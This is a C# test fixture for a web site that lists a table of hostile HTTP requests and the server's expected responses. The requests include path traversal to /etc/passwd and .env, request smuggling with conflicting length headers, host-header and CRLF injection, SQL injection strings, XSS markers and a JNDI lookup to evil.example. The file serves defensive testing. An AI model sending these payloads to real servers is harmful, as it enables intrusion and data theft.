namespace BackDimples.Web.Tests.Hostile;

/// <summary>One thing that somebody may send.</summary>
/// <param name="Name">What it tries.</param>
/// <param name="Parts">The bytes (Latin-1), in the pieces in which they are sent.</param>
/// <param name="Statuses">The statuses that are right; 0 stands for a connection that is closed without an answer.</param>
internal sealed record HostileCase(string Name, string[] Parts, params int[] Statuses);

/// <summary>The table of hostile requests. Every case is one line, so that another is quickly added.</summary>
internal static class HostileCases
{
    private const string Marker = "<zqx\"'>";

    public static IReadOnlyList<HostileCase> All { get; } =
        [.. Traversal(), .. WhiteSpaceRoutes(), .. BrokenTargets(), .. Overlong(), .. Methods(), .. Smuggling(), .. Hosts(), .. Conditions(), .. Parameters(), .. Slow()];

    private static HostileCase Get(string name, string target, params int[] statuses) => new(name, [Request("GET", target)], statuses);

    private static HostileCase With(string name, string target, string headers, params int[] statuses) => new(name, [Request("GET", target, headers)], statuses);

    private static string Request(string method, string target, string headers = "", string body = "") =>
        $"{method} {target} HTTP/1.1\r\nHost: localhost\r\n{headers}Connection: close\r\n\r\n{body}";

    private static IEnumerable<HostileCase> Traversal()
    {
        string[] steps = ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "%252e%252e%252f", "%c0%ae%c0%ae/", "..;/", "....//", "%u002e%u002e/", ".%00./"];
        string[] places = ["/", "/css/", "/faq/", "/articles/", "/api/faq/", "/content/"];
        foreach (var step in steps)
        {
            foreach (var place in places)
            {
                yield return Get($"traversal {place}{step}", $"{place}{string.Concat(Enumerable.Repeat(step, 6))}etc/passwd", 400, 404);
            }

            yield return Get($"traversal to the file beside the content by {step}", $"/figures/{step}{step}secret.yml", 400, 404);
        }

        foreach (var file in new[] { "/appsettings.json", "/BackDimples.Web.dll", "/site.yml", "/content/site.yml", "/.git/config", "/.env", "/web.config", "/wwwroot/css/site.css", "/css/", "/css", "/faq/x.cshtml" })
        {
            yield return Get($"file {file}", file, 404, 308);
        }
    }

    private static IEnumerable<HostileCase> WhiteSpaceRoutes()
    {
        foreach (var space in new[] { "%0a", "%0d%0a", "%09", "%20", "%c2%85", "%c2%a0", "%e2%80%a8", "%e2%80%a9", "%e3%80%80", "%ef%bb%bf", "%00", "%1f", "%7f", "%e2%80%ae" })
        {
            foreach (var place in new[] { "/articles/", "/faq/", "/tags/", "/sources/", "/api/faq/", "/api/articles/", "/embed/faq/", "/status/" })
            {
                // A space at the end is what a pasted link brings along: it leads to the list.
                yield return Get($"white space {place}{space}", place + space, space == "%20" ? [308, 404] : [400, 404]);
            }
        }
    }

    private static IEnumerable<HostileCase> BrokenTargets()
    {
        foreach (var text in new[] { "%", "%2", "%zz", "%ff", "%fe%ff", "%c3", "%e2%28%a1", "%ed%a0%80", "%f4%90%80%80", "%c0%80", "%u0041", "\u00ff\u00fe", "\u00e9", "%f0%9f%98%80", "`^|{}" })
        {
            yield return Get($"broken text in the path: {text}", "/faq/" + text, 400, 404);
            yield return Get($"broken text in a query: {text}", "/search?q=" + text, 200, 400);
            yield return Get($"broken text in a parameter's name: {text}", $"/tags?{text}=1&{text}", 200, 400);
        }

        yield return Get("NUL as a byte", "/faq/\0", 400);
        yield return Get("a line break as a byte", "/faq/\nX", 400);
        yield return Get("two slashes and a host", "//evil.example/faq", 404);
        yield return Get("two slashes before a page", "//faq", 308);
        yield return Get("many slashes before a page", "/////faq////", 308);
        yield return Get("slash and backslash and a host", "/\\evil.example", 404, 400);
        yield return Get("encoded slashes and a host", "/%2f%2fevil.example", 404);
        yield return Get("another spelling with a foreign return address", "/FAQ?returnUrl=https://evil.example&u=//evil.example", 308);
        yield return Get("another spelling with a line break in the query", "/FAQ?a=%0d%0aSet-Cookie:x=y", 308);
        yield return Get("another spelling with raw bytes in the query", "/FAQ?a=\u00e9\u00ff", 308, 400);
        yield return Get("an absolute target on another host", "http://evil.example/FAQ", 308, 400);
        yield return Get("an absolute target of another scheme", "ftp://evil.example/faq", 400, 200);
        yield return Get("an absolute target without a host", "http:///faq", 400);
        yield return Get("a user in the target", "http://evil.example@localhost/faq", 200, 400);
        yield return Get("a fragment in the target", "/faq#x", 404, 400);
        yield return Get("no target", "", 400);
        yield return Get("a target without a slash", "faq", 400, 405);
        yield return Get("an asterisk for GET", "*", 400, 405);
        yield return Get("an alias of another spelling", "/articles/How-To-Feed-A-Starter/", 301);
        yield return Get("a folder of a page", "/faq/x/../../faq", 200, 404);
    }

    private static IEnumerable<HostileCase> Overlong()
    {
        yield return Get("a long path", "/" + new string('a', 8000), 404);
        yield return Get("a request line over the limit", "/" + new string('a', 40_000), 414);
        yield return Get("a megabyte of a request line", "/" + new string('a', 1_000_000), 414, 0);
        yield return Get("a long query", "/search?q=" + new string('a', 7000), 200);
        yield return Get("a query of many words", "/search?q=" + string.Join('+', Enumerable.Repeat("bread", 1200)), 200);
        yield return Get("a thousand parameters", "/search?" + string.Join('&', Enumerable.Repeat("q=a", 1000)), 200);
        yield return Get("two thousand parameters", "/faq?" + string.Join('&', Enumerable.Repeat("a=", 2000)), 200);
        yield return Get("a thousand segments", "/" + string.Concat(Enumerable.Repeat("a/", 1000)), 404);
        yield return With("a long header", "/faq", $"X-Long: {new string('a', 20_000)}\r\n", 431);
        yield return With("many headers", "/faq", string.Concat(Enumerable.Range(0, 100).Select(i => $"X-{i}: 1\r\n")), 431);
        yield return With("a header without an end", "/faq", new string('a', 40_000), 431, 400);
        yield return With("cookies by the hundred", "/faq", $"Cookie: {string.Concat(Enumerable.Repeat("a=b; ", 500))}\r\n", 200);
    }

    private static IEnumerable<HostileCase> Methods()
    {
        foreach (var method in new[] { "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "TRACK", "PROPFIND", "BREW", "QUERY", "LINK", new string('G', 60) })
        {
            yield return new HostileCase($"method {method}", [Request(method, "/faq")], 405, 400);
            yield return new HostileCase($"method {method} on search", [Request(method, "/api/search?q=a")], 405, 400);
        }

        yield return new HostileCase("CONNECT to another host", ["CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n"], 405, 400);
        yield return new HostileCase("OPTIONS for the server", [Request("OPTIONS", "*")], 405);
        yield return new HostileCase("a method that is a control character", [Request("\u0001", "/")], 400);
        yield return new HostileCase("no method", [" / HTTP/1.1\r\nHost: localhost\r\n\r\n"], 400);
        yield return With("a method in a header", "/faq", "X-HTTP-Method-Override: DELETE\r\n", 200);
        yield return new HostileCase("HTTP/1.0 without a host", ["GET /faq HTTP/1.0\r\n\r\n"], 200);
        yield return new HostileCase("HTTP/0.9", ["GET /faq\r\n"], 400);
        // 505 is the answer that RFC 9110 asks for.
        yield return new HostileCase("HTTP/9.9", ["GET /faq HTTP/9.9\r\nHost: localhost\r\n\r\n"], 505);
        yield return new HostileCase("HTTP/2 without an agreement", ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"], 400, 505, 0);
        yield return new HostileCase("TLS on the plain port", ["\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003" + new string('\u0000', 100) + "\r\n\r\n"], 400, 0);
        yield return With("an upgrade to h2c", "/faq", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n", 200);
        yield return With("an upgrade to a socket", "/faq", "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n", 200);
    }

    private static IEnumerable<HostileCase> Smuggling()
    {
        const string Hidden = "GET /hidden HTTP/1.1\r\nHost: localhost\r\n\r\n";
        yield return new HostileCase("length and chunks", [Request("POST", "/faq", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + Hidden)], 400, 405);
        yield return new HostileCase("length and chunks on GET", [Request("GET", "/faq", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + Hidden)], 200, 400);
        yield return new HostileCase("two lengths that differ", [Request("POST", "/faq", "Content-Length: 0\r\nContent-Length: 44\r\n", Hidden)], 400);
        yield return new HostileCase("two lengths that agree", [Request("GET", "/faq", "Content-Length: 5\r\nContent-Length: 5\r\n", "12345")], 400, 200);
        yield return new HostileCase("a list of lengths", [Request("GET", "/faq", "Content-Length: 5, 5\r\n", "12345")], 400);
        yield return new HostileCase("a negative length", [Request("POST", "/faq", "Content-Length: -1\r\n")], 400);
        yield return new HostileCase("a length with a sign", [Request("POST", "/faq", "Content-Length: +5\r\n", "12345")], 400, 405);
        yield return new HostileCase("a length beyond all numbers", [Request("POST", "/faq", "Content-Length: 99999999999999999999\r\n")], 400);
        yield return new HostileCase("a folded header", [Request("GET", "/faq", "X-A: 1\r\n Transfer-Encoding: chunked\r\n")], 400);
        yield return new HostileCase("a space before the colon", [Request("GET", "/faq", "Transfer-Encoding : chunked\r\n")], 400);
        yield return new HostileCase("an unknown coding", [Request("POST", "/faq", "Transfer-Encoding: xchunked\r\n")], 400, 405, 501);
        yield return new HostileCase("chunks that are not last", [Request("POST", "/faq", "Transfer-Encoding: chunked, identity\r\n")], 400, 405);
        yield return new HostileCase("a bare line feed", ["GET /faq HTTP/1.1\nHost: localhost\n\n"], 200, 400);
        yield return new HostileCase("a bare carriage return", ["GET /faq HTTP/1.1\rHost: localhost\r\r"], 400, 408, 0);
        yield return new HostileCase("NUL in a header", [Request("GET", "/faq", "X-A: a\0b\r\n")], 400);
        yield return new HostileCase("a header without a colon", [Request("GET", "/faq", "nonsense\r\n")], 400);
        yield return new HostileCase("a header without a name", [Request("GET", "/faq", ": x\r\n")], 400);
        yield return new HostileCase("a body on GET", [Request("GET", "/faq", "Content-Length: 5\r\n", "12345")], 200, 413);
        yield return new HostileCase("a huge body announced", [Request("POST", "/faq", "Content-Length: 10000000000\r\n", "x")], 405, 413);
        yield return new HostileCase("a body only after leave", [Request("POST", "/faq", "Content-Length: 10\r\nExpect: 100-continue\r\n")], 405);
        yield return new HostileCase("a body of chunks without an end", [Request("POST", "/faq", "Transfer-Encoding: chunked\r\n", "ffffffff\r\nx")], 405, 413);
        yield return new HostileCase("chunks that are not numbers", [Request("GET", "/faq", "Transfer-Encoding: chunked\r\n", "zz\r\nx\r\n")], 200, 400, 413);
        yield return new HostileCase("a form without a boundary", [Request("HEAD", "/nothing-here", "Content-Type: multipart/form-data; boundary=\r\n")], 404);
        yield return new HostileCase("a form without a boundary on search", [Request("GET", "/search?q=rye", "Content-Type: multipart/form-data; boundary=\r\n")], 200);
        yield return new HostileCase("a form of nonsense", [Request("GET", "/search?q=rye", "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n", "q=%zz&=&&")], 200, 413);
    }

    private static IEnumerable<HostileCase> Hosts()
    {
        foreach (var host in new[] { "evil.example", "evil.example:99999", "localhost:0", "localhost,evil.example", "evil.example@localhost", Marker, "a b", "..", "[::1", "%00", new string('a', 3000), "" })
        {
            yield return new HostileCase($"host '{(host.Length > 40 ? "long" : host)}'", [$"GET /FAQ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"], 308, 400);
            yield return new HostileCase($"host '{(host.Length > 40 ? "long" : host)}' for oEmbed", [$"GET /oembed?url=http://{(host.Length > 40 ? "long" : "evil.example")}/faq/does-rye-flour-rise-faster HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"], 200, 400, 404);
        }

        yield return new HostileCase("no host", ["GET /faq HTTP/1.1\r\n\r\n"], 400);
        yield return new HostileCase("two hosts", ["GET /faq HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"], 400);
        foreach (var header in new[] { "X-Forwarded-Host: evil.example", "X-Forwarded-For: evil, <zqx>", "X-Forwarded-Proto: javascript", "X-Forwarded-Prefix: //evil.example", "X-Original-URL: /hidden", "X-Rewrite-URL: /hidden", "Forwarded: host=evil.example;proto=https", "X-Host: evil.example", "Base-Url: http://evil.example" })
        {
            yield return With(header, "/FAQ/", header + "\r\n", 308);
            yield return With($"{header} on a page", "/faq", header + "\r\n", 200);
        }
    }

    private static IEnumerable<HostileCase> Conditions()
    {
        foreach (var range in new[] { "bytes=0-0", "bytes=-1", "bytes=5-1", "bytes=99999999999999999999-", "bytes=" + string.Join(',', Enumerable.Range(0, 400).Select(i => $"{i}-{i}")), "bytes=a-b", "lines=1-2", "bytes=-0", "bytes= 0 - 1", "bytes=0-,0-,0-,0-" })
        {
            yield return With($"range {range[..Math.Min(30, range.Length)]} of a page", "/faq", $"Range: {range}\r\n", 200);
            yield return With($"range {range[..Math.Min(30, range.Length)]} of a file", "/css/site.css", $"Range: {range}\r\n", 200, 206, 416);
        }

        foreach (var condition in new[] { "If-None-Match: *", "If-None-Match: \"", "If-None-Match: ,,,W/", "If-Match: \"x\"", "If-Modified-Since: nonsense", "If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT", "If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT", "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT", "If-Range: zz\r\nRange: bytes=0-1", $"If-None-Match: {new string('x', 8000)}" })
        {
            yield return With($"condition {condition[..Math.Min(40, condition.Length)]} on a page", "/faq", condition + "\r\n", 200, 304);
            yield return With($"condition {condition[..Math.Min(40, condition.Length)]} on a file", "/css/site.css", condition + "\r\n", 200, 206, 304, 412);
            yield return With($"condition {condition[..Math.Min(40, condition.Length)]} on a search", "/api/search?q=a", condition + "\r\n", 200, 304);
        }

        foreach (var header in new[] { "Accept-Encoding: br;q=2", "Accept-Encoding: gzip;q=NaN", "Accept-Encoding: *;q=0", "Accept-Encoding: identity;q=0, *;q=0", "Accept-Encoding: ,,,;;;", "Accept: ,;=/", "Accept-Language: zz;q=9", "traceparent: 00-zz", "traceparent: 00-" + new string('f', 32) + "-" + new string('f', 16) + "-ff", "baggage: " + string.Concat(Enumerable.Repeat("a=b,", 900)), "Cookie: =;=;\"", "Authorization: Basic !!!", "Origin: null", "Referer: " + Marker, "User-Agent: " + Marker, "Sec-Purpose: prefetch" })
        {
            yield return With($"header {header[..Math.Min(40, header.Length)]}", "/search?q=loaf", header + "\r\n", 200);
        }
    }

    private static IEnumerable<HostileCase> Parameters()
    {
        string[] texts =
        [
            Marker, "%3Czqx%22%27%3E", "%22zqx=", "'zqx=", "</title><zqx>", "javascript:zqx", "{{7*7}}", "${jndi:ldap://evil.example}", "<!--<zqx", "%3Csvg%2Fonload%3Dzqx%3E", "&lt;zqx&gt;", "%26lt%3Bzqx",
            "'%3B%20DROP%20TABLE%20docs%3B--", "\"%20OR%201%3D1%20--", "NEAR(a%20b,%202)", "a%20AND%20b%20NOT%20c", "title%3Afoo", "^foo*", "{a%20b}%20:%20c", "%22unclosed", "a%22b%22c", "*", "((((", "))))", "-a%20-b", "OR", "NOT",
            "%00", "a%00b", "%f0%9f%98%80", "%cc%81%cc%81", "%e2%80%ae", "%25%25%25", "-1", "0", "1e999", "NaN", "2147483648", "-2147483649", "99999999999999999999", "%d9%a1", "%20", "", "_", "[]", "~/", "..%2f..%2f", "http://[::1", "http://localhost:99999/faq", "file:///etc/passwd",
        ];
        string[] places = ["/search?q={0}", "/search?q=loaf&tag={0}&kind={0}&page={0}", "/api/search?q={0}&tag={0}&kind={0}&limit={0}&offset={0}", "/api/suggest?q={0}", "/oembed?url={0}&format=json", "/oembed?url=https://sourdough.example/faq/does-rye-flour-rise-faster&format={0}&maxwidth={0}&maxheight={0}", "/tags/starter?with={0}", "/evidence?level={0}", "/{0}", "/faq/{0}", "/faq?handler={0}&page={0}&area={0}&id={0}"];
        foreach (var text in texts)
        {
            foreach (var place in places)
            {
                yield return Get($"{place[..Math.Min(24, place.Length)]} with {text}", string.Format(System.Globalization.CultureInfo.InvariantCulture, place, text.Replace(" ", "%20", StringComparison.Ordinal)), 200, 400, 404, 501, 308);
            }
        }
    }

    private static IEnumerable<HostileCase> Slow()
    {
        yield return new HostileCase("half a request line", ["GET /fa"], 408, 400, 0);
        yield return new HostileCase("half the headers", ["GET /faq HTTP/1.1\r\nHost: local"], 408, 400, 0);
        yield return new HostileCase("no end of the headers", ["GET /faq HTTP/1.1\r\nHost: localhost\r\n"], 408, 400, 0);
        yield return new HostileCase("a request in drops", ["G", "ET /", "faq HT", "TP/1.1\r\nHo", "st: localhost\r", "\nConnection: close\r\n\r", "\n"], 200);
        yield return new HostileCase("half a body", [Request("POST", "/faq", "Content-Length: 100\r\n", "half")], 405, 413);
        yield return new HostileCase("chunks that never come", [Request("POST", "/faq", "Transfer-Encoding: chunked\r\n")], 405);
        yield return new HostileCase("two requests in one packet", ["GET /faq HTTP/1.1\r\nHost: localhost\r\n\r\nGET /nothing HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"], 200);
    }
}
